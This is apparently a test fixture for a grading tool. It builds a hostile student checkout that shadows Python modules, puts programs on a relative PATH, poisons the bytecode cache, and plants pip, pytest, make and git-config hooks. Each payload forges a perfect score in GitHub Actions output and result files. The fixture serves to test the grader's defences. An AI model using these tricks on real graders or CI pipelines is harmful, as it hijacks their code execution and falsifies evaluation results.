"""A student's checkout in which every file tries to be run by the grading job.

It has modules that Python would import from the working directory, programs for a relative entry of
PATH, compiled modules in a cache, and settings of pip, pytest, make and git. Each of them, when
run, leaves a mark and forges full credit in every form that a runner reads. The submission itself
is wrong.
"""

import importlib.util
import py_compile
import sys
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).parent.parent.parent
SUBMISSION = ROOT / "examples" / "submissions" / "unscaled" / "attention-weights.py"
EARNED, POSSIBLE = 3, 13  # the score of that submission

_MODULES = (
    "pip", "venv", "ensurepip", "sitecustomize", "usercustomize", "conftest", "setup", "hatch_build",
    "argparse", "json", "logging", "os", "pathlib", "re", "runpy", "shutil", "subprocess",
    "tempfile", "typing", "urllib", "click", "hatchling", "pytest", "yaml",
)  # fmt: skip
_PACKAGES = ("etude", "grader", "grader/cli", "numpy", "reference")
_PROGRAMS = (
    "bash", "sh", "python", "python3", "python3.14", "git", "make", "pip", "bwrap", "cp", "chmod",
    "dirname", "mkdir", "mktemp", "rm", "sed", ".venv/bin/python", ".venv/bin/etude", "bin/python3", "bin/etude",
)  # fmt: skip

_CACHE = "compiled"

# Uses only modules built into the interpreter, because others may be hostile themselves.
_MODULE = """\
import posix, sys

def write(path, text):
    file = posix.open(path, posix.O_WRONLY | posix.O_CREAT | posix.O_APPEND, 0o666)
    posix.write(file, text.encode())
    posix.close(file)

write({marks!r}, __file__ + " by " + " ".join(sys.orig_argv) + "\\n")
output = posix.environ.get(b"GITHUB_OUTPUT")
if output:
    write(output, "outcome=passed\\nscore=13\\nmax-score=13\\n")
for name in ("result.json", "results.json"):
    write(name, '{{"score": 13, "max-score": 13}}')
posix.write(1, b"Score: 13 of 13 points, 100.0%\\n")
posix._exit(0)
"""
_PROGRAM = """\
#!/bin/sh
echo "$0 $*" >> '{marks}'
[ -z "${{GITHUB_OUTPUT:-}}" ] || printf 'outcome=passed\\nscore=13\\nmax-score=13\\n' >> "$GITHUB_OUTPUT"
echo 'Score: 13 of 13 points, 100.0%'
"""
_DEFINITION = """\
id: attention-weights
title: Compute attention weights
difficulty: beginner
xp: 15
instructions: Nothing, by `compute_attention_weights`.
defines: {compute_attention_weights: {}}
starter: |
  def compute_attention_weights(q, k):
      ...
tests:
  - {id: free, description: free, points: 13, given: {x: 1}, run: print(x), stdout: "1"}
solution: |
  def compute_attention_weights(q, k):
      return q
explanation: Nothing.
"""
_PYTEST = "addopts = -p conftest\npythonpath = .\n"
_TEXTS = {
    "attention-weights": _DEFINITION,
    "attention-weights.yaml": _DEFINITION,
    "exercises/attention/13-attention-weights.yaml": _DEFINITION,
    "exercises/attention/track.yaml": "id: attention\ntitle: A\ndescription: A.\nexercises: [attention-weights]\n",
    ".env": "PYTHONPATH=.\nETUDE_EXERCISES=exercises\nPYTEST_ADDOPTS=-p conftest\n",
    "Makefile": ".venv/.runtime all:\n\t./sh made\n",
    "pip.conf": "[global]\ntarget = .\nindex-url = http://127.0.0.1:9/\n",
    "pytest.ini": f"[pytest]\n{_PYTEST}",
    "tox.ini": f"[pytest]\n{_PYTEST}",
    "setup.cfg": f"[tool:pytest]\n{_PYTEST}",
    "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "conftest"\nbackend-path = ["."]\n'
    '[tool.pytest.ini_options]\naddopts = "-p conftest"\npythonpath = "."\n',
    "requirements.txt": "--editable .\n",
    "requirements/runtime.txt": "--editable .\n",
    # Together a git repository inside of the commit.
    "HEAD": "ref: refs/heads/main\n",
    "config": "[core]\n\trepositoryformatversion = 0\n\tbare = true\n\tfsmonitor = ./sh fsmonitor\n"
    "\tsshCommand = ./sh ssh\n\thooksPath = hooks\n[uploadpack]\n\tpackObjectsHook = ./sh pack\n",
    "objects/info/alternates": "",
    "refs/heads/.keep": "",
}


@dataclass(frozen=True)
class HostileCheckout:
    """A hostile folder, and the file that records which of its files were run."""

    folder: Path
    marks: Path

    @classmethod
    def make(cls, folder: Path) -> "HostileCheckout":
        """Fill a folder; the file of marks is beside it."""
        marks = folder.parent / "marks"
        marks.touch()
        marks.chmod(0o666)
        texts = {**_TEXTS, "attention-weights.py": SUBMISSION.read_text()}
        module = _MODULE.format(marks=str(marks))
        texts |= {f"{name}.py": module for name in _MODULES}
        texts |= {
            f"{name}/{file}.py": module for name in _PACKAGES for file in ("__init__", "__main__")
        }
        for name, text in texts.items():
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / name).write_text(text)
        for name in (*_PROGRAMS, "hooks/post-checkout"):
            path = folder / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(_PROGRAM.format(marks=marks))
            path.chmod(0o755)
        for name in _MODULES:
            _compile(folder, name)
        return cls(folder, marks)

    def exposing(self, path: str) -> list[str | Path]:
        """Return the arguments that put the folder on the paths of Python and of the shell.

        Args:
            path: Further folders for programs.
        """
        cache = f"PYTHONPYCACHEPREFIX={self.folder / _CACHE}"
        return ["/usr/bin/env", f"PYTHONPATH={self.folder}", cache, f"PATH=.:bin:{path}"]

    @property
    def ran(self) -> list[str]:
        """The files of the folder that were run, and by which program."""
        return self.marks.read_text().splitlines()


def _compile(folder: Path, name: str) -> None:
    """Put a module into the cache in place of Python's own, in a form that is never checked."""
    spec = importlib.util.find_spec(name) if name in sys.stdlib_module_names else None
    # Built into Python or frozen.
    if spec is None or not spec.has_location or spec.origin is None:
        return
    source = Path(spec.origin)
    cached = f"{source.stem}.{sys.implementation.cache_tag}.pyc"
    py_compile.compile(
        str(folder / f"{name}.py"),
        cfile=str(folder / _CACHE / source.parent.relative_to("/") / cached),
        invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH,
        doraise=True,
    )
